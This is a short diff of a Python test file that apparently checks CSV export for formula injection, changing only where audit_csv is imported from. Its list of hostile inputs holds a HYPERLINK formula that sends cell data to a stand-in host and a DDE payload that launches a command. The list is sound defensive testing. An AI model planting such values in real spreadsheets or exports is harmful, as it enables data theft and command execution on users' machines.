@@ -8,7 +8,8 @@ import unicodedata
 
 import pytest
 
-from seilocal.store.versions import VersionStore, audit_csv
+from seilocal.store.history import audit_csv
+from seilocal.store.versions import VersionStore
 
 HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
            "\tx", "\r=1",
